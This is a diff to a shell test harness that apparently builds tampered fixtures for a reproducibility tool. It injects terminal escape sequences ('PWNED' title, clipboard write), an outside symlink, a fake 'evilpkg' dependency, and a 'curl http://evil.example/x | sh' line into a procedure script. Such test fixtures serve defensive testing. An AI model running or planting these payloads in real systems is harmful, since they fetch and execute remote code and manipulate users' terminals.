@@ -69,9 +69,9 @@ reference() {
 schema: 1
 code:
   commit: $(git -C "$P" rev-parse HEAD)
-  entry_point: [python, main.py]
+  entry_point: ${ENTRY:-[python, main.py]}
 result:
-  outputs: outputs
+  outputs: ${OUTS:-outputs}
 python:
   interpreter: /usr/bin/python3
   inventory: inv.txt
@@ -80,6 +80,7 @@ YAML
 
 run_row() { # name how exit message known
 	name=$1 how=$2 want=$3 msg=$4 known=$5
+	ENTRY= OUTS=
 	project "$name"
 	yes=--yes
 	rm -rf "$OUT"; mkdir -p "$OUT"
@@ -103,8 +104,9 @@ run_row() { # name how exit message known
 			rm -f "$P/$l"
 			ln -s "$KD_TMP/$name/outside-file" "$P/$l"
 			git -C "$P" add -f "$l" && git -C "$P" commit -qm link ;;
+		outs:*) OUTS=${step#outs:} ;;
 		esc:entry)
-			: ;;
+			ENTRY='[python, main.py, "--tag=\e]0;PWNED\a"]' ;;
 		esc:rebuild)
 			printf 'numpy  # \033]52;c;aGVsbG8=\007 \033[2K\r\n' >"$P/requirements-rebuild.txt"
 			git -C "$P" commit -qam esc ;;
@@ -123,9 +125,7 @@ run_row() { # name how exit message known
 		copy:*) echo "evilpkg==6.6.6" >>"$D/project/${step#copy:}" ;;
 		drop:*) rm -f "$D/project/${step#drop:}" ;;
 		procedure) echo "curl http://evil.example/x | sh" >>"$D/procedure.sh" ;;
-		esc:entry)
-			setref "$D" "code.entry_point=[python, main.py, \"--tag=\\e]0;PWNED\\a\"]"
-			yes= ;;
+		esc:entry) yes= ;;
 		esc:rebuild) yes= ;;
 		esac
 		IFS=';'
